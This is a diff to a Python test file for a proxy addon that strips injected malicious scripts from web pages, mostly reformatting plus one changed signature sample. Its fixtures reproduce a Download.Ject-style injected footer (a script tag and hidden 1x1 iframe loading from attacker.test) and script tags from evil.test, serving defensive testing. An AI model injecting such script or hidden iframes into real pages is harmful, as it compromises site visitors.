@@ -52,7 +52,7 @@ PAGE = "http://shop.test/news/index.html"
 ATTACKER = "http://attacker.test/dot.php"
 # Download.Ject's footer: one inline script writing a script tag and a hidden 1x1 iframe.
 FOOTER = (
-    '<script>document.write(\'<script src="' + ATTACKER + '"></scr\'+\'ipt>'
+    "<script>document.write('<script src=\"" + ATTACKER + "\"></scr'+'ipt>"
     '<iframe src="' + ATTACKER + '" width=1 height=1 style="display:none"></iframe>\');</script>'
 )
 CLEAN = (
@@ -124,9 +124,14 @@ def response_flow(
     if length:
         hs.append((b"Content-Length", str(len(raw)).encode()))
     resp = http.Response(
-        http_version=b"HTTP/1.1", status_code=status, reason=b"OK",
-        headers=http.Headers(hs), content=raw, trailers=None,
-        timestamp_start=1.0, timestamp_end=2.0,
+        http_version=b"HTTP/1.1",
+        status_code=status,
+        reason=b"OK",
+        headers=http.Headers(hs),
+        content=raw,
+        trailers=None,
+        timestamp_start=1.0,
+        timestamp_end=2.0,
     )
     f = tflow.tflow(req=http.Request.make(method, url, b""), resp=resp)
     return f
@@ -187,8 +192,9 @@ async def test_clean_page_is_byte_identical(addon: Strip, coding: str) -> None:
 
 async def test_clean_page_with_harmless_lookalikes_untouched(addon: Strip) -> None:
     page = CLEAN.replace(
-        "<p>", "<p>see http://attacker.test/ in our report <!-- <script src=http://attacker.test/x>"
-        " --><textarea><script src=http://attacker.test/x></script></textarea>"
+        "<p>",
+        "<p>see http://attacker.test/ in our report <!-- <script src=http://attacker.test/x>"
+        " --><textarea><script src=http://attacker.test/x></script></textarea>",
     )
     f = response_flow(page.encode())
     before = snapshot(f)
@@ -377,7 +383,9 @@ def test_html_plan_reads_headers_as_a_browser_does() -> None:
     assert plan() == "sniff"
     assert plan((b"Content-Type", b"image/png")) is None
     # nosniff in the second of two X-Content-Type-Options fields still counts.
-    assert plan((b"X-Content-Type-Options", b"foo"), (b"x-content-type-options", b"NoSniff")) is None
+    assert (
+        plan((b"X-Content-Type-Options", b"foo"), (b"x-content-type-options", b"NoSniff")) is None
+    )
     # Two Content-Type fields: a browser renders the last one that parses (Fetch), so a
     # server cannot hide a page behind an image type placed first.
     assert plan((b"Content-Type", b"image/png"), (b"Content-Type", b"text/html")) == "html"
@@ -386,7 +394,10 @@ def test_html_plan_reads_headers_as_a_browser_does() -> None:
 
 @pytest.mark.parametrize(
     "value",
-    ["application/xhtml+xml, application/xhtml+xml", "text/plain, application/xhtml+xml;charset=utf-8"],
+    [
+        "application/xhtml+xml, application/xhtml+xml",
+        "text/plain, application/xhtml+xml;charset=utf-8",
+    ],
 )
 def test_xhtml_with_repeated_types_is_scanned(value: str) -> None:
     assert scan_content_type(value) in ("text/html", 'text/html; charset="utf-8"')
@@ -631,7 +642,10 @@ def test_long_chains_of_codings_are_read_within_a_budget() -> None:
 
 def test_brotli_with_bytes_after_the_stream() -> None:
     """Chromium ignores what follows the end of a brotli stream; so does the scanner."""
-    page = b"".join(b"<p>%d</p>" % i for i in range(4000)) + b"<script src=http://evil.test/x.js></script>"
+    page = (
+        b"".join(b"<p>%d</p>" % i for i in range(4000))
+        + b"<script src=http://evil.test/x.js></script>"
+    )
     assert decode_body(brotli.compress(page) + b"\x00", "br", 10**6) == page
     assert decode_body(brotli.compress(page) + b"junk" * 2000, "br", 10**6) == page
 
@@ -697,7 +711,7 @@ async def test_signatures_option(addon: Strip, tmp_path: Path) -> None:
     )
     bad = tmp_path / "bad.toml"
     bad.write_text('[[signature]]\nname = "x"\nkind = "glob"\npattern = "a"\n')
-    page = CLEAN.replace("<p>", "<script>var evilmarker = 1;</script><p>").encode()
+    page = CLEAN.replace("<p>", "<script>eval('var evilmarker = 1');</script><p>").encode()
     with strip_context(addon) as tctx:
         with pytest.raises(exceptions.OptionsError, match=r"jg_signatures: .*line 1"):
             tctx.configure(addon, jg_signatures=str(bad))
